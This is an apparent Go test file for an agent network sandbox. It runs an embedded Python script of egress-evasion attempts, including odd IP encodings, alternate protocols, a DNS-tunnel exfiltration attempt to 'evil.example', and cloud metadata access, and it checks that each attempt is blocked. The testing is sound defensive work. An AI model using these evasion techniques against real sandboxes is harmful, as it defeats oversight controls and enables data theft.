package main

import (
	"encoding/json"
	"fmt"
	"net"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"golang.org/x/sys/unix"

	"github.com/agentguard/agentguard/internal/runs"
	"github.com/agentguard/agentguard/trace"
)

// attempts is what a hostile command does with an allowlist of one name and
// port. It prints a JSON object of what each attempt came to: what it read, or
// the number of its error.
const attempts = `
import json, os, socket, struct, sys, time
api, port = "api.test.example", 8443
short = float(sys.argv[1]) # for datagrams, which are not answered
wait = float(sys.argv[2]) if len(sys.argv) > 2 else 30 # for connections, which are
out = {}
def name(h, fam=socket.AF_INET):
    return socket.getaddrinfo(h, 0, fam, socket.SOCK_STREAM)[0][4][0]
def note(key, f):
    try: out[key] = f()
    except socket.gaierror as e: out[key] = "no name"
    except OSError as e: out[key] = e.errno or "timeout"
def tcp(host, p, fam=socket.AF_INET, proto=0, wait=wait):
    s = socket.socket(fam, socket.SOCK_STREAM, proto); s.settimeout(wait)
    s.connect((host, p)); r = s.recv(200).decode().strip(); s.close(); return r
def udp(host, p, fam=socket.AF_INET, proto=0, connect=False):
    s = socket.socket(fam, socket.SOCK_DGRAM, proto); s.settimeout(short)
    if connect: s.connect((host, p)); s.send(b"x")
    else: s.sendto(b"x", (host, p))
    return s.recv(100).decode()
a4, a6 = name(api), name(api, socket.AF_INET6)

note("allowed", lambda: tcp(a4, port))
note("allowed over IPv6", lambda: tcp(a6, port, socket.AF_INET6))
note("allowed, mapped", lambda: tcp("::ffff:" + a4, port, socket.AF_INET6))
note("allowed, any case and a dot", lambda: tcp(name("API.Test.eXample."), port))
note("allowed, MPTCP", lambda: tcp(a4, port, proto=262))
def fast(p):
    s = socket.socket(); s.sendto(b"data", 0x20000000, (a4, p)); return s.recv(200).decode().split("\n")[0]
note("allowed, fast open", lambda: fast(port))

note("other port", lambda: tcp(a4, port + 1))
note("other port over IPv6", lambda: tcp(a6, port + 1, socket.AF_INET6))
note("other port, mapped", lambda: tcp("::ffff:" + a4, port + 1, socket.AF_INET6))
note("other port, fast open", lambda: fast(port + 1))
def fastconnect():
    s = socket.socket(); s.settimeout(wait); s.setsockopt(socket.IPPROTO_TCP, 30, 1); s.connect((a4, port + 1)); s.send(b"x"); return s.recv(9)
note("other port, fast open connect", fastconnect)
note("other port, MPTCP", lambda: tcp(a4, port + 1, proto=262))
note("its own address", lambda: tcp("203.0.113.10", port))
for form in ("3405803786", "0xcb00710a", "0313.0.0161.012", "203.113.10", "::ffff:203.0.113.10", "::ffff:cb00:710a", "64:ff9b::cb00:710a"):
    fam = socket.AF_INET6 if ":" in form else socket.AF_INET
    note("its own address as " + form, lambda: tcp(form, port, fam))
note("the address under another name", lambda: tcp(name("cdn.test.example"), port))
note("a name below it", lambda: tcp(name("x.api.test.example"), port))
note("a neighbour's synthetic address", lambda: tcp(name("moved.test.example"), port))
note("the namespace's own address", lambda: tcp("198.18.0.1", port))
note("metadata", lambda: tcp("169.254.169.254", 80))

note("QUIC", lambda: udp(a4, port))
note("QUIC, connected", lambda: udp(a4, port, connect=True))
note("QUIC, mapped", lambda: udp("::ffff:" + a4, port, socket.AF_INET6))
note("QUIC over IPv6", lambda: udp(a6, port, socket.AF_INET6))
note("UDP-Lite", lambda: udp(a4, port, proto=136))
note("UDP-Lite, connected", lambda: udp(a4, port, proto=136, connect=True))
note("SCTP", lambda: tcp(a4, port, proto=132))
def raw():
    socket.socket(socket.AF_INET, socket.SOCK_RAW, 6); return "made"
note("raw", raw)
note("outer DNS", lambda: udp("203.0.113.10", 53))
note("outer DNS over TCP", lambda: tcp("203.0.113.10", 53))

def tunnel(kind, base):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(5); codes = set()
    for i in range(20):
        labels = [b"%02dsecret" % i + b"a" * 50] * 3 + [l.encode() for l in base.split(".")]
        q = struct.pack("!6H", i, 0x100, 1, 0, 0, 0) + b"".join(bytes([len(l)]) + l for l in labels) + b"\0" + struct.pack("!2H", kind, 1)
        s.sendto(q, ("127.0.0.1", 53)); codes.add(s.recv(600)[3] & 15)
    return sorted(codes)
note("tunnel", lambda: tunnel(16, "evil.example"))
note("tunnel below the name", lambda: tunnel(1, api))

def server(bind, p):
    s = socket.socket(); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1); s.bind((bind, p)); s.listen(5); return s
own = []
def serve(at, p):
    try: own.append(server(at, p))
    except OSError: pass # the relay's listener has it, where there is one for each address
serve(a4, port)
note("the name, bound by the command", lambda: tcp(a4, port))
for s in own: s.close()
own.clear(); serve("0.0.0.0", port); serve("0.0.0.0", port + 1)
note("own server on the allowed port", lambda: socket.create_connection(("127.0.0.1", port), 5).close() or "connected")
note("the name, beside it", lambda: tcp(a4, port))
note("other port, beside it", lambda: tcp(a4, port + 1, wait=short)) # its own server, which says nothing

def relays():
    got = set()
    for l in open("/proc/net/tcp").readlines()[1:]:
        f = l.split()
        p = int(f[1].split(":")[1], 16)
        if f[3] == "0A" and p not in (53, port, port + 1):
            for at in "127.0.0.1", "198.18.0.1":
                try: got.add(tcp(at, p) or "nothing")
                except OSError as e: got.add(e.errno)
    return sorted(got)
note("the relay's own port", relays)
note("descriptors", lambda: sorted(int(x) for x in os.listdir("/proc/self/fd") if os.path.exists("/proc/self/fd/" + x) and os.readlink("/proc/self/fd/" + x).startswith("socket:") and int(x) < 100 and int(x) not in [s.fileno() for s in own]))
note("metadata by name", lambda: tcp(name("moved.test.example"), 80))
print(json.dumps(out))
`

// evaded are addresses that no attempt may reach, evasionFlags what is allowed.
var (
	evaded = []string{
		"tcp 203.0.113.10:8444", "tcp 203.0.113.10:53", "tcp 169.254.169.254:80", "tcp [2001:db8:5::10]:8444", "udp 203.0.113.10:8443", "udp 203.0.113.10:53",
	}
	evasionFlags = []string{"--allow", "api.test.example:8443", "--allow", "moved.test.example:80"}
)

// attemptEvasions opens the world for the attempts.
func attemptEvasions(t *testing.T) *world {
	t.Helper()
	w := newWorld(t)
	for _, at := range []string{"203.0.113.10:8443", "203.0.113.10:8444", "203.0.113.11:8443", "203.0.113.10:53", "169.254.169.254:80", "[2001:db8:5::10]:8444"} {
		w.tcp(at)
	}
	echo := func(b []byte) []byte { return b }
	w.udp("203.0.113.10:8443", echo)
	w.udp("203.0.113.10:53", echo)
	w.name("api.test.example", "203.0.113.10")
	w.name("cdn.test.example", "203.0.113.10")
	w.name("x.api.test.example", "203.0.113.10")
	w.name("moved.test.example", "169.254.169.254")
	w.write("attempts.py", attempts)
	return w
}

// Everything that a command can try against an allowlist of one name and port,
// and one name that leads to a metadata service.
func TestEgressEvasions(t *testing.T) {
	w := attemptEvasions(t)
	inherited, err := net.Dial("tcp", "203.0.113.11:8443")
	if err != nil {
		t.Fatal(err)
	}
	defer inherited.Close()
	f, err := inherited.(*net.TCPConn).File()
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	if _, err := unix.FcntlInt(f.Fd(), unix.F_SETFD, 0); err != nil { // passed on to agentguard
		t.Fatal(err)
	}
	out, res := w.exec(evasionFlags, "/usr/bin/python3", "attempts.py", "2")
	got := map[string]any{}
	line, _, _ := strings.Cut(out, "\n")
	if err := json.Unmarshal([]byte(line), &got); err != nil {
		t.Fatalf("%v\n%s", err, out)
	}
	const hello, eperm = "hello from 203.0.113.10:8443", "1"
	want := map[string]string{
		"allowed, fast open": hello, "QUIC": eperm, "tunnel": "[3]", "tunnel below the name": "[3]", "own server on the allowed port": "connected",
		"the relay's own port": "[1 111]", "descriptors": "[]", "metadata by name": "111", "SCTP": "1 or 93",
		"allowed, MPTCP": hello + " or 93 or 1", "other port, MPTCP": "1 or 93", "UDP-Lite": "1 or 93", "UDP-Lite, connected": "1 or 93",
		"the address under another name": "no name", "a name below it": "no name",
		"the name, beside it": hello, "the name, bound by the command": hello,
	}
	for key, value := range got {
		expect := want[key]
		switch {
		case expect != "":
		case strings.HasPrefix(key, "allowed"):
			expect = hello
		default:
			expect = eperm
		}
		text := fmt.Sprint(value)
		if text == "" {
			text = `""`
		}
		if !strings.Contains(" or "+expect+" or ", " or "+text+" or ") {
			t.Errorf("%s: %s, want %s", key, text, expect)
		}
	}
	if len(got) < 40 {
		t.Errorf("only %d attempts", len(got))
	}
	for _, at := range evaded {
		if n := w.hitsOf(at); n > 0 {
			t.Errorf("%s was reached %d times", at, n)
		}
	}
	if n := w.hitsOf("tcp 203.0.113.11:8443"); n != 1 {
		t.Errorf("the inherited socket's server has %d connections", n)
	}
	if w.asked("secret") || w.asked("corp.example") || w.asked("cdn.test") {
		t.Errorf("the host was asked for %q", w.queries)
	}
	if res.Record.Verdict != "complete" || res.Denials.Count < 30 {
		t.Errorf("record %+v, %d denials", res.Record, res.Denials.Count)
	}
	w.inRecord(res, "deny connect api.test.example:8444", "deny connect 203.0.113.10:8443", "deny dns cdn.test.example:0", "deny send udp://api.test.example:8443",
		"deny connect 169.254.169.254:80", "deny connect moved.test.example:80", "allow connect api.test.example:8443")
}

// lines are those of the record that have a text in them: for who asks why a test failed.
func (w *world) lines(res *runs.Result, text string) string {
	w.t.Helper()
	b, err := os.ReadFile(filepath.Join(res.Record.Path, runs.TraceFile))
	must(w.t, err)
	var out strings.Builder
	for line := range strings.Lines(string(b)) {
		if strings.Contains(line, text) {
			out.WriteString(line)
		}
	}
	return out.String()
}

// inRecord looks for events of the record, as "VERDICT KIND [PROTO://]HOST:PORT".
func (w *world) inRecord(res *runs.Result, want ...string) {
	w.t.Helper()
	f, err := os.Open(filepath.Join(res.Record.Path, runs.TraceFile))
	if err != nil {
		w.t.Fatal(err)
	}
	defer f.Close()
	have := map[string]bool{}
	var e trace.Event
	for r := trace.NewReader(f); r.Next(&e) == nil; {
		host := string(e.Name)
		if host == "" {
			host = e.Addr.String()
		}
		if e.Proto == "udp" {
			host = "udp://" + host
		}
		have[fmt.Sprintf("%s %s %s:%d", e.Verdict, e.Kind, host, e.Port)] = true
	}
	for _, s := range want {
		if !have[s] {
			w.t.Errorf("no %q in the record", s)
		}
	}
}
